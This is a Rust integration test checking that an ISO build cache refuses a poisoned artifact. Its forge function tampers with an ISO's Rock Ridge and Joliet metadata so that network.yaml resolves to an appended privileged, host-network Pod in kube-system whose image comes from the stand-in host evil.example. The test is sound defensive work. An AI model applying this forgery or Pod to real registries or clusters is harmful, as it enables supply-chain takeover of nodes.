//! A holder of push rights on the cache registry replaces a runner's ISO with a forgery whose
//! Rock Ridge tree is the runner's own, whose `ER` is renamed (so Linux mounts the Joliet
//! tree) and whose Joliet `network.yaml` points at a privileged Pod appended to the image. The
//! next runner with the same inputs refuses it, builds the ISO again and writes the good one.

use std::path::Path;
use std::process::Command;

use cks_builder::pipeline::Request;
use cks_e2e::{run_build, start_upstream};
use cks_fixtures::demo::DemoConfig;
use cks_fixtures::process::require_program;
use sha2::{Digest, Sha256};

use super::support::{CacheServer, artifacts, blob_path, cache_warnings, runner_inputs, tags_dir};

const SECTOR: usize = 2048;

const POD: &str = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: owned\n  namespace: kube-system\nspec:\n  hostNetwork: true\n  containers:\n  - name: x\n    image: evil.example/x\n    securityContext:\n      privileged: true\n";

fn le(bytes: &[u8], at: usize) -> usize {
    u32::from_le_bytes([bytes[at], bytes[at + 1], bytes[at + 2], bytes[at + 3]]) as usize
}

fn put_both(bytes: &mut [u8], at: usize, value: u32) {
    bytes[at..at + 4].copy_from_slice(&value.to_le_bytes());
    bytes[at + 4..at + 8].copy_from_slice(&value.to_be_bytes());
}

/// `iso` with `ER` renamed and its Joliet `/network.yaml` pointing at [`POD`], appended.
fn forge(mut iso: Vec<u8>) -> Vec<u8> {
    let id = iso
        .windows(10)
        .position(|w| w == b"RRIP_1991A")
        .expect("an ER entry");
    iso[id - 8..id - 6].copy_from_slice(b"EX");
    let sector = iso.len() / SECTOR;
    iso.extend_from_slice(POD.as_bytes());
    iso.resize((sector + 1) * SECTOR, 0);
    let space = (iso.len() / SECTOR) as u32;
    for descriptor in [16, 17] {
        put_both(&mut iso, descriptor * SECTOR + 80, space);
    }
    assert_eq!(
        &iso[17 * SECTOR + 88..17 * SECTOR + 90],
        b"%/",
        "a Joliet descriptor"
    );
    let root = 17 * SECTOR + 156;
    let (start, len) = (le(&iso, root + 2) * SECTOR, le(&iso, root + 10));
    let name: Vec<u8> = "network.yaml"
        .encode_utf16()
        .flat_map(u16::to_be_bytes)
        .collect();
    let at = iso[start..start + len]
        .windows(name.len())
        .position(|w| w == name.as_slice())
        .expect("a Joliet record of network.yaml")
        + start
        - 33;
    put_both(&mut iso, at + 2, sector as u32);
    put_both(&mut iso, at + 10, POD.len() as u32);
    iso
}

fn write_link(path: &Path, digest: &str) {
    std::fs::create_dir_all(path.parent().expect("a folder")).expect("link folder");
    std::fs::write(path, digest).expect("write a link");
}

/// Stores `bytes` as a blob of the cache repository; returns its digest.
fn put_blob(storage: &Path, bytes: &[u8], layer: bool) -> String {
    let hex: String = Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let digest = format!("sha256:{hex}");
    let path = blob_path(storage, &digest);
    std::fs::create_dir_all(path.parent().expect("a folder")).expect("blob folder");
    std::fs::write(&path, bytes).expect("write a blob");
    let repo = tags_dir(storage).join("../..");
    let hex = digest.trim_start_matches("sha256:");
    let kind = if layer {
        "_layers"
    } else {
        "_manifests/revisions"
    };
    write_link(
        &repo.join(kind).join("sha256").join(hex).join("link"),
        &digest,
    );
    digest
}

fn isoinfo_joliet(iso: &Path) -> String {
    let program = require_program("isoinfo", "genisoimage").expect("isoinfo installed");
    let out = Command::new(program)
        .arg("-i")
        .arg(iso)
        .args(["-J", "-x", "/network.yaml"])
        .output()
        .expect("run isoinfo");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_forged_iso_pushed_under_a_runners_entry_is_refused_and_built_again() {
    let upstream = start_upstream(DemoConfig::default()).await;
    let storage = tempfile::tempdir().expect("registry storage");
    let cache = CacheServer::start(storage.path(), false);
    let runner = || {
        let out = tempfile::tempdir().expect("out");
        let dir = tempfile::tempdir().expect("cache");
        let inputs = runner_inputs(&upstream, out.path(), dir.path(), &cache.url());
        (inputs, out, dir)
    };
    let (a, _a_out, _a_dir) = runner();
    let cold = run_build(&a, Request::default()).await.expect("runner A");
    let good = std::fs::read(&cold.iso).expect("runner A's ISO");

    // The forger pushes the forged ISO and a manifest naming it under runner A's tag.
    let forged = forge(good);
    let forged_digest = put_blob(storage.path(), &forged, true);
    let entries = artifacts(storage.path(), "cks-iso-");
    assert_eq!(entries.len(), 1, "runner A pushed one ISO");
    let (_, mut manifest) = entries.into_iter().next().expect("one entry");
    manifest["layers"][0]["digest"] = forged_digest.clone().into();
    manifest["layers"][0]["size"] = forged.len().into();
    let manifest = serde_json::to_vec(&manifest).expect("JSON");
    let manifest_digest = put_blob(storage.path(), &manifest, false);
    let tag = std::fs::read_dir(tags_dir(storage.path()))
        .expect("tags")
        .flatten()
        .find(|t| t.file_name().to_string_lossy().starts_with("cks-iso-"))
        .expect("the ISO's tag")
        .path();
    write_link(&tag.join("current/link"), &manifest_digest);
    let hex = manifest_digest.trim_start_matches("sha256:");
    write_link(
        &tag.join("index/sha256").join(hex).join("link"),
        &manifest_digest,
    );
    let forged_blob = blob_path(storage.path(), &forged_digest);
    assert_eq!(
        isoinfo_joliet(&forged_blob),
        POD,
        "Linux without ER reads the Pod"
    );

    let (b, _b_out, _b_dir) = runner();
    let warm = run_build(&b, Request::default()).await.expect("runner B");
    assert_eq!(warm.sha256, cold.sha256, "the forged ISO was not used");
    assert_ne!(format!("sha256:{}", warm.sha256), forged_digest);
    assert!(!warm.reused, "runner B built the ISO again");
    let warnings = cache_warnings(&warm);
    assert!(
        warnings
            .iter()
            .any(|w| w.contains("no Rock Ridge ER entry")),
        "{warnings:?}"
    );
    let network = isoinfo_joliet(&warm.iso);
    assert_ne!(network, POD);
    assert!(network.contains("kind:"), "{network}");
    let stats = warm.cache_registry.expect("cache registry statistics");
    assert_eq!((stats.iso.hits, stats.iso.misses), (0, 1), "{stats:?}");
    drop(cache);
}
